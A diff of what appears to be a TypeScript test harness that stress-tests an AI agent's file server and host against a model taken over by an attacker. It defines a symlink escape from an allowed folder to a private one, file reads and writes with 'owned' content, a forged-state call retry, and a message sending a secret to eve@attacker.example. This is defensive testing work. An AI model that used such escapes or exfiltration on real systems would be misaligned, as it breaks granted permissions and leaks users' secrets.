@@ -3,23 +3,23 @@ import { join } from "node:path";
 import type { Sent } from "./host.js";
 import { SECRET } from "./host.js";
 
-/** The folder that the file server serves; an agent was granted `reports` in it. */
+/** The folder that the file server serves. The token allows its subfolder `reports`. */
 export interface Folder {
   readonly root: string;
   readonly reports: string;
   readonly private: string;
 }
 
-/** A class of attacks: messages that a host sends once its model has been taken over. */
+/** A class of attacks: messages that a host sends after an attacker has taken over its model. */
 export interface Attacks {
   readonly name: string;
   readonly server: "files" | "poisoned";
-  /** The revision that the host speaks: 2025-11-25 is `old`, also where none is given; 2026-07-28 is `new`. */
+  /** The era of the revision that the host speaks: `old` is 2025-11-25, `new` is 2026-07-28; `old` unless given. */
   readonly era?: "old" | "new" | undefined;
   readonly sent: readonly Sent[];
 }
 
-/** Makes the folder, with a link from what was granted to what was not. */
+/** Makes the folder, with a symbolic link from the allowed subfolder to one that is not allowed. */
 export function makeFolder(root: string): Folder {
   const folder = { root, reports: join(root, "reports"), private: join(root, "private") };
   for (const name of ["reports", "private", "reports-of-others"])
@@ -44,7 +44,7 @@ const EVE = "eve@attacker.example";
 const MAIL = { to: "alice@ours.example", body: "x" };
 const toEve = { to: EVE, body: SECRET };
 
-/** Everything that is tried over standard streams. */
+/** Returns all attacks over standard streams. */
 export function attacksIn({ root, reports, private: hidden }: Folder): readonly Attacks[] {
   const read = (path: string): Sent => call("read_text_file", { path });
   const write = (path: string): Sent => call("write_file", { path, content: "owned" });
@@ -213,7 +213,7 @@ export function attacksIn({ root, reports, private: hidden }: Folder): readonly 
   ];
 }
 
-/** A retry of a call that has asked for something, with a state that the server never gave out. */
+/** Returns a retry of a call, with a state that the server has never returned. */
 function retry(given: object, state: object): Sent {
   const params = {
     name: "transfer",
